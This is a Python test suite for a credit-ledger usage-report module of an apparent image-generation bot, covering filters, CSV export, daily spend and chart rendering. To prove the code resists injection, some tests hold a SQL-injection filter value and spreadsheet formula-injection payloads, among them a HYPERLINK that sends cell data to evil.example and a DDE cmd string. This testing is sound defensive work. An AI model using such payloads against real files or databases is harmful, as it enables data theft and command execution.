"""Usage reports: ledger filters, CSV export (round trip, formula guard), spend per UTC day, chart."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import gzip
import io
import random

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image

from core.db import Database
from core.jobs import JobKind, JobStore
from core.ledger import Ledger
from core.models import GenerationSpec, ModelId
from core.usage import (
    MODEL_COLOURS,
    DailySpend,
    daily_spend,
    export_ledger,
    ledger_csv,
    ledger_rows,
    parse_ledger_csv,
    totals,
    usage_chart_png,
)

GUILD = 111
OTHER_GUILD = 222
ALICE, BOB, MOD = 1, 2, 9
PRO, KLEIN = ModelId.PRO.value, ModelId.KLEIN.value

# Written out, not imported: the export's columns are a promise to whoever reads the file.
COLUMNS = ("id", "created_at_utc", "kind", "amount", "balance_after", "job_id", "user_id", "model", "reason")


def utc(*args: int) -> float:
    return dt.datetime(*args, tzinfo=dt.UTC).timestamp()


async def new_job(db: Database, *, model: ModelId, user: int, guild: int = GUILD) -> int:
    async with db.transaction() as tx:
        return await JobStore(db).insert_in(
            tx,
            guild_id=guild,
            channel_id=5,
            user_id=user,
            kind=JobKind.IMAGINE,
            spec=GenerationSpec(model=model, prompt="a cat"),
            price=8 if model is ModelId.PRO else 2,
            parent_job_id=None,
            interaction=None,
        )


async def charged_job(
    db: Database, ledger: Ledger, *, model: ModelId, user: int, amount: int, at: float, guild: int = GUILD
) -> int:
    """A job reserved and captured through the Ledger API, at a chosen time."""
    job_id = await new_job(db, model=model, user=user, guild=guild)
    async with db.transaction() as tx:
        tx.now = at
        await ledger.reserve_in(tx, job_id=job_id, guild_id=guild, user_id=user, amount=amount)
        assert await ledger.capture_in(tx, job_id)
    return job_id


async def insert_entry(
    db: Database,
    *,
    kind: str,
    amount: int,
    at: float,
    guild: int = GUILD,
    job_id: int | None = None,
    user_id: int | None = None,
    reason: str | None = None,
    balance_after: int = 0,
) -> None:
    """An entry written as Ledger writes it, but at a chosen time (Ledger.grant/refund use the clock)."""
    async with db.transaction() as tx:
        await tx.execute(
            "INSERT INTO ledger_entries (guild_id, kind, amount, balance_after, job_id, user_id, reason, created_at)"
            " VALUES (?, ?, ?, ?, ?, ?, ?, ?)",
            (guild, kind, amount, balance_after, job_id, user_id, reason, at),
        )


async def fund(db: Database, amount: int, *, at: float, guild: int = GUILD) -> None:
    """A guild's credits and their grant entry, as Ledger.grant writes them, at a chosen time."""
    async with db.transaction() as tx:
        await tx.execute(
            "INSERT INTO guild_credits (guild_id, balance, reserved, created_at) VALUES (?, ?, 0, ?)",
            (guild, amount, at),
        )
    await insert_entry(db, kind="grant", amount=amount, at=at, guild=guild, user_id=MOD, balance_after=amount)


# --- ledger_rows -------------------------------------------------------------------------------


@pytest.fixture
async def scene(db):
    """Alice: Pro on Mar 1 and Klein on Mar 2; Bob: Klein on Mar 3, refunded by a moderator on Mar 4."""
    ledger = Ledger(db)
    await fund(db, 100, at=utc(2025, 2, 28, 12))
    await fund(db, 100, at=utc(2025, 2, 28, 12), guild=OTHER_GUILD)
    alice_pro = await charged_job(db, ledger, model=ModelId.PRO, user=ALICE, amount=8, at=utc(2025, 3, 1, 10))
    alice_klein = await charged_job(
        db, ledger, model=ModelId.KLEIN, user=ALICE, amount=2, at=utc(2025, 3, 2, 10)
    )
    bob_klein = await charged_job(db, ledger, model=ModelId.KLEIN, user=BOB, amount=2, at=utc(2025, 3, 3, 10))
    await insert_entry(db, kind="refund", amount=2, at=utc(2025, 3, 4, 10), job_id=bob_klein, user_id=MOD)
    await charged_job(
        db, ledger, model=ModelId.PRO, user=ALICE, amount=8, at=utc(2025, 3, 1), guild=OTHER_GUILD
    )
    return {"alice_pro": alice_pro, "alice_klein": alice_klein, "bob_klein": bob_klein}


def ids(rows) -> list[tuple[str, int | None]]:
    return [(r["kind"], r["job_id"]) for r in rows]


async def test_all_rows_of_the_guild_newest_first_with_their_model(db, scene):
    rows = await ledger_rows(db, GUILD)
    assert ids(rows) == [
        ("refund", scene["bob_klein"]),
        ("capture", scene["bob_klein"]),
        ("reserve", scene["bob_klein"]),
        ("capture", scene["alice_klein"]),
        ("reserve", scene["alice_klein"]),
        ("capture", scene["alice_pro"]),
        ("reserve", scene["alice_pro"]),
        ("grant", None),
    ], "another guild's entries leaked in, or the order is not newest first"
    assert [r["model"] for r in rows] == [KLEIN] * 5 + [PRO] * 2 + [None]
    assert all(r["guild_id"] == GUILD for r in rows)


async def test_member_filter_follows_the_job_owner_not_who_refunded(db, scene):
    bob = await ledger_rows(db, GUILD, user_id=BOB)
    assert ids(bob) == [
        ("refund", scene["bob_klein"]),
        ("capture", scene["bob_klein"]),
        ("reserve", scene["bob_klein"]),
    ]
    alice = await ledger_rows(db, GUILD, user_id=ALICE)
    assert {r["job_id"] for r in alice} == {scene["alice_pro"], scene["alice_klein"]}
    assert ids(await ledger_rows(db, GUILD, user_id=MOD)) == [("grant", None)], (
        "a grant belongs to who made it; a refund to the member whose job it was"
    )


async def test_model_filter_excludes_entries_without_a_job(db, scene):
    pro = await ledger_rows(db, GUILD, model=PRO)
    assert ids(pro) == [("capture", scene["alice_pro"]), ("reserve", scene["alice_pro"])]
    klein = await ledger_rows(db, GUILD, model=ModelId.KLEIN)
    assert {r["job_id"] for r in klein} == {scene["alice_klein"], scene["bob_klein"]}
    assert len(klein) == 5


async def test_date_range_is_half_open(db, scene):
    rows = await ledger_rows(db, GUILD, since=utc(2025, 3, 2, 10), until=utc(2025, 3, 4, 10))
    assert ids(rows) == [
        ("capture", scene["bob_klein"]),
        ("reserve", scene["bob_klein"]),
        ("capture", scene["alice_klein"]),
        ("reserve", scene["alice_klein"]),
    ], "since must be inclusive and until exclusive"
    assert ids(await ledger_rows(db, GUILD, since=utc(2025, 3, 4, 10))) == [("refund", scene["bob_klein"])]
    assert ids(await ledger_rows(db, GUILD, until=utc(2025, 3, 1))) == [("grant", None)]


async def test_filters_combine(db, scene):
    rows = await ledger_rows(
        db, GUILD, user_id=ALICE, model=KLEIN, since=utc(2025, 3, 2), until=utc(2025, 3, 3)
    )
    assert ids(rows) == [("capture", scene["alice_klein"]), ("reserve", scene["alice_klein"])]
    assert await ledger_rows(db, GUILD, user_id=BOB, model=PRO) == []


async def test_hostile_filter_values_are_bound_not_spliced(db, scene):
    assert await ledger_rows(db, GUILD, model="x' OR '1'='1") == []
    assert len(await ledger_rows(db, GUILD)) == 8, "the ledger must be untouched"


# --- CSV ---------------------------------------------------------------------------------------


def test_csv_has_the_documented_header_and_iso_utc_times():
    row = {
        "id": 7,
        "created_at": utc(2025, 3, 5, 14, 7, 9) + 0.25,
        "kind": "capture",
        "amount": 8,
        "balance_after": 92,
        "job_id": 3,
        "user_id": 42,
        "model": PRO,
        "reason": None,
    }
    text = ledger_csv([row]).decode("utf-8")
    header, line = text.splitlines()
    assert tuple(header.split(",")) == COLUMNS
    assert line == "7,2025-03-05T14:07:09Z,capture,8,92,3,42,flux-2-pro,"


@pytest.mark.parametrize(
    "reason",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_formula_like_reasons_are_neutralised(reason):
    row = {"id": 1, "created_at": 0.0, "kind": "grant", "amount": 5, "balance_after": 5, "reason": reason}
    data = ledger_csv([row])
    (cells,) = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))[1:]
    cell = cells[COLUMNS.index("reason")]
    assert cell == "'" + reason, f"a spreadsheet would run {reason!r} as a formula"
    assert parse_ledger_csv(data)[0]["reason"] == reason, "the guard must be undone on reading"


def test_ordinary_reasons_and_negative_numbers_are_left_alone():
    rows = [
        {
            "id": 1,
            "created_at": 0.0,
            "kind": "grant",
            "amount": -3,
            "balance_after": 0,
            "reason": "top-up = 5",
        },
        {"id": 2, "created_at": 0.0, "kind": "grant", "amount": 3, "balance_after": 3, "reason": "'quoted'"},
    ]
    text = ledger_csv(rows).decode("utf-8")
    assert ",-3," in text, "numbers are not text: a negative amount must stay a number"
    assert ",top-up = 5\r\n" in text
    assert [r["reason"] for r in parse_ledger_csv(text.encode())] == ["top-up = 5", "'quoted'"]


def test_parse_refuses_something_else():
    with pytest.raises(ValueError, match="header"):
        parse_ledger_csv(b"a,b,c\r\n1,2,3\r\n")
    with pytest.raises(ValueError, match="header"):
        parse_ledger_csv(b"")


KINDS = ("grant", "reserve", "capture", "release", "refund")
reasons = st.one_of(
    st.none(),
    st.text(alphabet=st.characters(exclude_categories=("Cs",)), max_size=30),
    st.sampled_from(["=1+1", "'=1+1", "''", "'", "+", "-", "@x", "\t", "\r\n", 'a,"b"\nc']),
)
entries = st.lists(
    st.tuples(
        st.sampled_from(KINDS),
        st.integers(min_value=0, max_value=10**9),
        st.sampled_from([None, ModelId.PRO, ModelId.KLEIN]),
        st.sampled_from([None, ALICE, BOB]),
        reasons,
        st.integers(min_value=1_600_000_000_000, max_value=1_900_000_000_000).map(lambda ms: ms / 1000),
    ),
    max_size=25,
)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(entries=entries)
def test_csv_export_round_trips_into_the_same_totals(tmp_path_factory, entries):
    async def scenario() -> None:
        db = await Database.open(tmp_path_factory.mktemp("usage") / "u.db")
        try:
            for kind, amount, model, user, reason, at in entries:
                job_id = await new_job(db, model=model, user=user or MOD) if model else None
                await insert_entry(
                    db, kind=kind, amount=amount, at=at, job_id=job_id, user_id=user, reason=reason
                )
            rows = await ledger_rows(db, GUILD)
            parsed = parse_ledger_csv(ledger_csv(rows))
            assert totals(parsed) == totals(rows) == await Ledger(db).totals(GUILD)
            assert [
                (r["id"], r["kind"], r["amount"], r["job_id"], r["user_id"], r["model"]) for r in parsed
            ] == [(r["id"], r["kind"], r["amount"], r["job_id"], r["user_id"], r["model"]) for r in rows]
            assert [r["reason"] for r in parsed] == [r["reason"] or None for r in rows]
            assert [r["created_at"] for r in parsed] == [float(int(r["created_at"])) for r in rows]
        finally:
            await db.close()

    asyncio.run(scenario())


def test_totals_sum_per_kind():
    rng = random.Random(7)
    rows = [{"kind": rng.choice(KINDS), "amount": rng.randint(0, 50)} for _ in range(200)]
    expected = {k: sum(r["amount"] for r in rows if r["kind"] == k) for k in KINDS}
    assert totals(rows) == {k: v for k, v in expected.items() if any(r["kind"] == k for r in rows)}
    assert totals([]) == {}


# --- daily_spend -------------------------------------------------------------------------------


async def test_daily_spend_buckets_by_utc_day_and_model(db):
    ledger = Ledger(db)
    await fund(db, 1000, at=utc(2025, 1, 1))
    await fund(db, 1000, at=utc(2025, 1, 1), guild=OTHER_GUILD)
    now = utc(2025, 3, 10, 15)
    # Mar 8 23:59:59 and Mar 9 00:00:00 UTC are different days.
    await charged_job(db, ledger, model=ModelId.PRO, user=ALICE, amount=8, at=utc(2025, 3, 8, 23, 59, 59))
    await charged_job(db, ledger, model=ModelId.PRO, user=ALICE, amount=8, at=utc(2025, 3, 9))
    await charged_job(db, ledger, model=ModelId.KLEIN, user=BOB, amount=2, at=utc(2025, 3, 9, 12))
    await charged_job(db, ledger, model=ModelId.KLEIN, user=BOB, amount=2, at=utc(2025, 3, 10, 23, 59))
    # Outside the window (Mar 7 to Mar 10): before and after.
    await charged_job(db, ledger, model=ModelId.PRO, user=BOB, amount=8, at=utc(2025, 3, 6, 23))
    await charged_job(db, ledger, model=ModelId.PRO, user=BOB, amount=8, at=utc(2025, 3, 11))
    await charged_job(
        db, ledger, model=ModelId.PRO, user=BOB, amount=8, at=utc(2025, 3, 9), guild=OTHER_GUILD
    )
    # Reserved and released: never spend.
    job = await new_job(db, model=ModelId.KLEIN, user=BOB)
    async with db.transaction() as tx:
        tx.now = utc(2025, 3, 9, 1)
        await ledger.reserve_in(tx, job_id=job, guild_id=GUILD, user_id=BOB, amount=2)
        await ledger.release_in(tx, job)

    spend = await daily_spend(db, GUILD, days=4, now=now)
    assert spend.days == [dt.date(2025, 3, 7), dt.date(2025, 3, 8), dt.date(2025, 3, 9), dt.date(2025, 3, 10)]
    assert spend.by_model == {PRO: [0, 8, 8, 0], KLEIN: [0, 0, 2, 2]}


async def test_daily_spend_has_every_day_even_with_no_ledger(db):
    spend = await daily_spend(db, GUILD, days=30, now=utc(2024, 3, 15, 8))
    assert len(spend.days) == 30 and spend.days[-1] == dt.date(2024, 3, 15)
    assert all((b - a).days == 1 for a, b in zip(spend.days, spend.days[1:], strict=False)), (
        "a day is missing"
    )
    assert spend.by_model == {PRO: [0] * 30, KLEIN: [0] * 30}
    with pytest.raises(ValueError):
        await daily_spend(db, GUILD, days=0, now=utc(2024, 3, 15))


async def test_refunds_are_subtracted_on_the_day_of_the_refund(db):
    ledger = Ledger(db)
    await fund(db, 1000, at=utc(2024, 12, 1))
    pro = await charged_job(db, ledger, model=ModelId.PRO, user=ALICE, amount=8, at=utc(2025, 3, 8, 9))
    old_klein = await charged_job(db, ledger, model=ModelId.KLEIN, user=ALICE, amount=2, at=utc(2025, 1, 1))
    await insert_entry(db, kind="refund", amount=8, at=utc(2025, 3, 9, 9), job_id=pro, user_id=MOD)
    await insert_entry(db, kind="refund", amount=2, at=utc(2025, 3, 10, 9), job_id=old_klein, user_id=MOD)
    # A refund entry of a job that was never captured is not spend (the ledger refuses it; be robust).
    uncaptured = await new_job(db, model=ModelId.PRO, user=ALICE)
    await insert_entry(db, kind="refund", amount=8, at=utc(2025, 3, 10, 9), job_id=uncaptured, user_id=MOD)

    spend = await daily_spend(db, GUILD, days=3, now=utc(2025, 3, 10, 12))
    assert spend.by_model == {PRO: [8, -8, 0], KLEIN: [0, 0, -2]}, (
        "a refund must lower the day it happened, for the model of the refunded job"
    )


async def test_daily_spend_matches_ledger_refund_api(db):
    """The real refund path (Ledger.refund) is counted too, whatever day the clock says."""
    ledger = Ledger(db)
    await ledger.grant(GUILD, 100, user_id=MOD, reason=None)
    job = await new_job(db, model=ModelId.PRO, user=ALICE)
    async with db.transaction() as tx:
        await ledger.reserve_in(tx, job_id=job, guild_id=GUILD, user_id=ALICE, amount=8)
        await ledger.capture_in(tx, job)
    await ledger.refund(job, guild_id=GUILD, by=MOD, reason="bad image")
    rows = await ledger_rows(db, GUILD, model=PRO)
    spend = await daily_spend(db, GUILD, days=3, now=max(r["created_at"] for r in rows))
    assert sum(spend.by_model[PRO]) == 0 and sum(spend.by_model[KLEIN]) == 0


# --- the chart ---------------------------------------------------------------------------------


def rgb(hex_colour: str) -> tuple[int, int, int]:
    return tuple(int(hex_colour[i : i + 2], 16) for i in (1, 3, 5))


def pixels(png: bytes) -> np.ndarray:
    assert png[:8] == b"\x89PNG\r\n\x1a\n", "not a PNG"
    image = Image.open(io.BytesIO(png))
    image.verify()
    image = Image.open(io.BytesIO(png)).convert("RGB")
    assert 600 <= image.width <= 2000 and 300 <= image.height <= 1200, f"odd size {image.size}"
    return np.asarray(image).astype(int)


def mask_of(image: np.ndarray, hex_colour: str, tolerance: int = 8) -> np.ndarray:
    return (np.abs(image - np.array(rgb(hex_colour))) <= tolerance).all(axis=2)


DAYS = [dt.date(2025, 3, 1) + dt.timedelta(days=i) for i in range(10)]


def chart(pro: list[int], klein: list[int], title: str = "Server usage") -> np.ndarray:
    return pixels(usage_chart_png(DailySpend(days=DAYS, by_model={PRO: pro, KLEIN: klein}), title=title))


def runs(flags: np.ndarray) -> list[tuple[int, int]]:
    """[start, end) of each run of True."""
    edges = np.flatnonzero(np.diff(np.concatenate(([0], flags.astype(int), [0]))))
    return list(zip(edges[::2].tolist(), edges[1::2].tolist(), strict=True))


def bar_centres(mask: np.ndarray) -> list[int]:
    """Centre columns of the bars of one colour, left to right. Legend swatches (about 28 px wide,
    the same colour) are told apart by width: a bar of this chart is over 60 px wide."""
    return [(a + b) // 2 for a, b in runs(mask.any(axis=0)) if b - a > 40]


def bar_extent(mask: np.ndarray, column: int) -> tuple[int, int]:
    """Top and bottom pixel rows of the tallest block of the colour in that column."""
    top, bottom = max(runs(mask[:, column]), key=lambda r: r[1] - r[0])
    return top, bottom


def bar_height(mask: np.ndarray, column: int) -> int:
    top, bottom = bar_extent(mask, column)
    return bottom - top


def test_chart_is_a_png_whose_bars_show_the_data():
    empty = chart([0] * 10, [0] * 10)
    full = chart([8, 16, 0, 8, 8, 0, 0, 24, 8, 8], [2, 2, 4, 0, 0, 6, 0, 2, 2, 2])
    white = (empty == 255).all(axis=2)
    assert mask_of(empty, MODEL_COLOURS[PRO]).sum() == 0 and mask_of(empty, MODEL_COLOURS[KLEIN]).sum() == 0
    pro, klein = mask_of(full, MODEL_COLOURS[PRO]), mask_of(full, MODEL_COLOURS[KLEIN])
    assert pro.sum() > 5000 and klein.sum() > 1000, "the bars of both models must be drawn"
    not_white = ~(full == 255).all(axis=2)
    assert not_white.sum() > (~white).sum() + 6000, "the data chart is hardly different from an empty one"


def test_bar_heights_are_proportional_and_stacked():
    # Day 1 stays empty so no bar shares columns with the legend's swatches.
    image = chart([0, 10, 5, 0, 0, 0, 0, 0, 0, 6], [0, 0, 0, 0, 0, 0, 0, 0, 0, 2])
    pro, klein = mask_of(image, MODEL_COLOURS[PRO]), mask_of(image, MODEL_COLOURS[KLEIN])
    bars = bar_centres(pro)
    assert len(bars) == 3, f"expected Pro bars on 3 days, found {len(bars)}"
    day2, day3, day10 = (bar_height(pro, c) for c in bars)
    assert day2 == pytest.approx(2 * day3, rel=0.05), "10 credits must be twice as tall as 5"
    assert day10 == pytest.approx(0.6 * day2, rel=0.05)
    assert bar_centres(klein) == [pytest.approx(bars[2], abs=2)], "Klein's only bar is on day 10"
    assert bar_height(klein, bars[2]) == pytest.approx(day10 / 3, rel=0.1), "Klein's 2 on top of Pro's 6"
    klein_top, klein_bottom = bar_extent(klein, bars[2])
    pro_top, _ = bar_extent(pro, bars[2])
    assert klein_bottom <= pro_top + 1, "Klein must stack on top of Pro"


def test_a_model_without_spend_is_not_drawn_nor_in_the_legend():
    image = chart([8, 0, 16, 0, 0, 0, 0, 0, 0, 8], [0] * 10)
    assert mask_of(image, MODEL_COLOURS[PRO]).sum() > 2000
    assert mask_of(image, MODEL_COLOURS[KLEIN]).sum() == 0, "Klein had no spend, its colour must not appear"
    only_klein = chart([0] * 10, [2] * 10)
    assert mask_of(only_klein, MODEL_COLOURS[PRO]).sum() == 0
    assert mask_of(only_klein, MODEL_COLOURS[KLEIN]).sum() > 2000


def test_negative_days_are_drawn_below_zero():
    image = chart([0, 0, 0, 0, 8, 0, 0, 0, 0, 0], [0, 0, 0, 0, 0, -2, 0, 0, 0, 0])
    pro, klein = mask_of(image, MODEL_COLOURS[PRO]), mask_of(image, MODEL_COLOURS[KLEIN])
    (pro_bar,), (klein_bar,) = bar_centres(pro), bar_centres(klein)
    assert klein_bar > pro_bar
    _, pro_bottom = bar_extent(pro, pro_bar)
    klein_top, _ = bar_extent(klein, klein_bar)
    assert klein_top >= pro_bottom - 2, "a net refund must hang below the zero line the Pro bar stands on"
    assert bar_height(klein, klein_bar) == pytest.approx(bar_height(pro, pro_bar) / 4, rel=0.1)


def test_titles_and_long_periods_render_as_plain_text():
    days = [dt.date(2024, 12, 1) + dt.timedelta(days=i) for i in range(90)]
    png = usage_chart_png(
        DailySpend(days=days, by_model={PRO: [i % 3 for i in range(90)], KLEIN: [0] * 90}),
        title="$erver of 100$ ^_^ $\\frac{",  # unbalanced mathtext would raise if parsed
    )
    assert mask_of(pixels(png), MODEL_COLOURS[PRO]).sum() > 1000


# --- paging by key and the streamed export --------------------------------------------------------


async def test_pages_by_key_cover_the_ledger_once_in_order_both_ways(db):
    ledger = Ledger(db)
    for n in range(25):
        await ledger.grant(GUILD, n + 1, user_id=MOD, reason=f"top-up {n}")
    await ledger.grant(OTHER_GUILD, 5, user_id=MOD, reason="elsewhere")
    everything = await ledger_rows(db, GUILD)
    pages, cursor = [], None
    while True:
        page = await ledger_rows(db, GUILD, older_than=cursor, limit=10)
        if not page:
            break
        pages.append(page)
        cursor = page[-1]["id"]
    assert [len(p) for p in pages] == [10, 10, 5]
    assert [r["id"] for p in pages for r in p] == [r["id"] for r in everything]
    # Newer than the last page's first entry: the page before it, newest first.
    assert await ledger_rows(db, GUILD, newer_than=pages[2][0]["id"], limit=10) == pages[1]
    assert await ledger_rows(db, GUILD, newer_than=pages[0][0]["id"], limit=10) == []


async def test_the_export_streams_in_batches_into_the_same_rows(db, tmp_path):
    ledger = Ledger(db)
    for n in range(23):
        await ledger.grant(GUILD, n + 1, user_id=MOD, reason=f"=cmd {n}" if n % 5 == 0 else None)
    path = tmp_path / "export.csv.gz"
    written = await export_ledger(db, GUILD, path, batch=7)
    rows = await ledger_rows(db, GUILD)
    assert written == len(rows) == 23
    data = gzip.decompress(path.read_bytes())
    assert data.count(b"id,created_at_utc") == 1, "one header, not one per batch"
    assert data == ledger_csv(rows)
    parsed = parse_ledger_csv(data)
    assert [r["id"] for r in parsed] == [r["id"] for r in rows]


async def test_an_empty_export_is_just_the_header(db, tmp_path):
    path = tmp_path / "empty.csv.gz"
    assert await export_ledger(db, GUILD, path) == 0
    assert gzip.decompress(path.read_bytes()) == ledger_csv([])
